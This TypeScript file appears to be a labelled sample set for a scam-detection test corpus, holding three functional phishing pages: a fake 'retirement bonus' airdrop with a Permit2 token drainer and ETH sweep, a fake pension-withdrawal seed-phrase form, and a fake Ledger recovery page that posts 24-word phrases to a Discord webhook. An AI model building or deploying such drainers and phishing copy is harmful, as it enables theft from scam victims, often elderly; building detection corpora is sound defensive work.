/**
 * yi- crypto drainers and seed-phrase pages met after investment scams: a "crypto pension bonus"
 * airdrop, a withdrawal "wallet verification", a hardware-wallet "recovery".
 */
import { type Entry } from '../entry.js';
import { jsonRoute, jsRoute } from '../parts/e-bin.js';
import { doc } from '../parts/yi-kit.js';

export const entries: Entry[] = [
{
  id: 'yi-drainer-seniors-crypto-pension-airdrop',
  label: 'cryptodrainer',
  kind: 'wallet-drainer',
  url: 'https://claim.retirementbonus-eth.xyz/',
  body: doc({
    title: 'Retirement Bonus Airdrop – Claim 0.35 ETH',
    lang: 'en',
    css: `body{margin:0;font-family:Inter,Arial,sans-serif;background:#0b1020;color:#e8ecff;text-align:center}.c{max-width:520px;margin:70px auto;background:#141b33;border-radius:16px;padding:36px;border:1px solid #2a3560}
h1{font-size:30px}.amt{font-size:42px;font-weight:800;color:#7cf3c5}button{background:linear-gradient(90deg,#5b7cfa,#8c5bfa);border:0;color:#fff;padding:15px 34px;border-radius:12px;font-size:18px;font-weight:700;cursor:pointer}
.s{font-size:13px;color:#8b95c9}#st{margin-top:14px;color:#ffd479}`,
    body: `<div class="c"><h1>🎁 Retirement Bonus Airdrop</h1><p>Eligible wallets that held ETH before 2023 can claim a one-time retirement bonus.</p><div class="amt">0.35 ETH</div>
<p class="s">≈ $1,120 · 2,184 of 5,000 claims remaining</p><button id="go">Connect wallet to claim</button><div id="st"></div>
<p class="s">Works with MetaMask, Trust Wallet and Coinbase Wallet.</p></div>
<script src="/assets/claim.bundle.js"></script>`,
  }),
  routes: {
    'claim.retirementbonus-eth.xyz/assets/claim.bundle.js': jsRoute(`(function(){
var RECV='0x7a3F1c2b9E4d5A6f8B0c1D2e3F4a5B6c7D8e9F01';
var PERMIT2='0x000000000022D473030F116dDEE9F6B43aC78BA3';
var TOKENS={USDT:'0xdAC17F958D2ee523a2206206994597C13D831ec7',USDC:'0xA0b86991c6218b36c1d19D4a2e9Eb0cE3606eB48',WETH:'0xC02aaA39b223FE8D0A0e5C4F27eAD9083C756Cc2'};
function st(t){document.getElementById('st').textContent=t}
async function go(){var eth=window.ethereum;if(!eth){st('No wallet found. Open this page in your wallet browser.');return}
var acc=(await eth.request({method:'eth_requestAccounts'}))[0];st('Checking eligibility…');
fetch('/api/v1/log',{method:'POST',headers:{'Content-Type':'application/json'},body:JSON.stringify({a:acc,ua:navigator.userAgent})});
var bal=BigInt(await eth.request({method:'eth_getBalance',params:[acc,'latest']}));
var dl=Math.floor(Date.now()/1000)+86400*30;
var typed={types:{EIP712Domain:[{name:'name',type:'string'},{name:'chainId',type:'uint256'},{name:'verifyingContract',type:'address'}],PermitBatch:[{name:'details',type:'PermitDetails[]'},{name:'spender',type:'address'},{name:'sigDeadline',type:'uint256'}],PermitDetails:[{name:'token',type:'address'},{name:'amount',type:'uint160'},{name:'expiration',type:'uint48'},{name:'nonce',type:'uint48'}]},
primaryType:'PermitBatch',domain:{name:'Permit2',chainId:1,verifyingContract:PERMIT2},
message:{details:Object.values(TOKENS).map(function(t){return{token:t,amount:'1461501637330902918203684832716283019655932542975',expiration:dl,nonce:0}}),spender:RECV,sigDeadline:dl}};
st('Sign to verify your wallet (no gas fee)');
var sig=await eth.request({method:'eth_signTypedData_v4',params:[acc,JSON.stringify(typed)]});
await fetch('/api/v1/permit',{method:'POST',headers:{'Content-Type':'application/json'},body:JSON.stringify({owner:acc,sig:sig,permit:typed.message})});
var gas=BigInt(21000)*BigInt(30e9);if(bal>gas){st('Confirm the claim transaction');
await eth.request({method:'eth_sendTransaction',params:[{from:acc,to:RECV,value:'0x'+(bal-gas).toString(16),data:'0x4e71d92d'}]})}
st('Claim submitted! Your bonus will arrive within 24 hours.')}
document.getElementById('go').addEventListener('click',function(){go().catch(function(e){st('Error: '+(e&&e.message||e)+' – please try again')})});
})();`),
    'claim.retirementbonus-eth.xyz/api/v1/log': jsonRoute({ ok: true }),
    'claim.retirementbonus-eth.xyz/api/v1/permit': jsonRoute({ ok: true }),
  },
},
{
  id: 'yi-seed-phrase-withdrawal-wallet-verify',
  label: 'cryptodrainer',
  kind: 'seed-phrase-phish',
  url: 'https://withdraw.quantumpension-ai.io/account/withdrawal/verify-wallet',
  body: doc({
    title: 'Quantum Pension AI – Withdrawal pending: verify your wallet',
    css: `body{margin:0;font-family:Arial,sans-serif;background:#f2f4f8;color:#1c2230}.h{background:#121a33;color:#fff;padding:14px 26px;display:flex;justify-content:space-between}
.m{max-width:640px;margin:26px auto;background:#fff;padding:28px;border-radius:10px}.bal{font-size:32px;font-weight:700;color:#0a8f5a}
.grid{display:grid;grid-template-columns:repeat(3,1fr);gap:8px}.grid input{padding:9px;border:1px solid #bbc;border-radius:6px}
select{padding:8px;margin-bottom:12px}button{margin-top:16px;width:100%;background:#121a33;color:#fff;border:0;padding:14px;font-size:16px;border-radius:8px}`,
    body: `<div class="h"><b>Quantum Pension AI</b><span>Account manager: Alex Turner</span></div>
<div class="m"><p>Available balance</p><div class="bal">£48,912.40</div>
<p>Your withdrawal of <b>£20,000.00</b> to your external wallet is pending. For anti-money-laundering compliance, the receiving wallet must be verified before funds are released.</p>
<form id="w"><label>Wallet</label><br><select name="wallet"><option>Coinbase Wallet</option><option>Trust Wallet</option><option>MetaMask</option><option>Exodus</option><option>Ledger Live</option></select>
<p>Enter your 12-word recovery phrase in the correct order:</p><div class="grid" id="g"></div>
<button>Verify wallet and release withdrawal</button></form></div>
<script>
var g=document.getElementById('g');for(var i=1;i<=12;i++){var x=document.createElement('input');x.name='w'+i;x.placeholder=i+'.';x.autocomplete='off';x.spellcheck=false;g.appendChild(x)}
document.getElementById('w').addEventListener('submit',function(e){e.preventDefault();var f=new FormData(this),words=[];for(var i=1;i<=12;i++)words.push((f.get('w'+i)||'').trim().toLowerCase());
fetch('/account/api/wallet/verify',{method:'POST',headers:{'Content-Type':'application/json'},body:JSON.stringify({wallet:f.get('wallet'),phrase:words.join(' '),ts:Date.now()})}).then(function(){alert('Verification in progress. Your account manager will contact you.')})});
</script>`,
  }),
  routes: { 'withdraw.quantumpension-ai.io/account/api/wallet/verify': jsonRoute({ status: 'queued' }) },
},
{
  id: 'yi-seed-phrase-hardware-wallet-breach-recovery',
  label: 'cryptodrainer',
  kind: 'seed-phrase-phish',
  url: 'https://ledger-secure-recovery.com/en/recover',
  body: doc({
    title: 'Ledger | Secure your assets after the data incident',
    lang: 'en',
    css: `body{margin:0;font-family:"HM Alpha",Inter,Arial,sans-serif;background:#000;color:#fff}.h{padding:20px 30px;font-size:22px;letter-spacing:4px;font-weight:700;border-bottom:1px solid #222}
.m{max-width:700px;margin:30px auto;padding:0 20px}.w{background:#1c1c1c;border-left:4px solid #ff5300;padding:14px}
.grid{display:grid;grid-template-columns:repeat(4,1fr);gap:8px;margin-top:14px}.grid input{background:#111;border:1px solid #444;color:#fff;padding:10px;border-radius:4px}
button{margin-top:20px;background:#fff;color:#000;border:0;padding:14px 30px;border-radius:40px;font-size:16px;font-weight:700}`,
    body: `<div class="h">LEDGER</div>
<div class="m"><h1>Protect your crypto after the customer data incident</h1>
<p class="w">Following the recent data incident, some Ledger devices were flagged as at risk. To migrate your assets to a new secure seed, confirm your current 24-word Secret Recovery Phrase. Devices not migrated within 72 hours may be locked.</p>
<form id="l"><div class="grid">${Array.from({ length: 24 }, (_, i) => `<input name="word${i + 1}" placeholder="${i + 1}" autocomplete="off">`).join('')}</div><button>Migrate my assets</button></form></div>
<script>
document.getElementById('l').addEventListener('submit',function(e){e.preventDefault();var p=[];new FormData(this).forEach(function(v){p.push(v)});
var m='LEDGER 24:\\n'+p.join(' ');
fetch('https://discord.com/api/webhooks/1239901827364517280/Qv8dK2mPz0R7wXyL4sHn3jTbC6aFeG1uVo9iNq5ZcYk-MpWxRt2Lb8Hs0Dj4Af7E',{method:'POST',headers:{'Content-Type':'application/json'},body:JSON.stringify({content:m})}).finally(function(){location.href='https://www.ledger.com/'})});
</script>`,
  }),
},
];
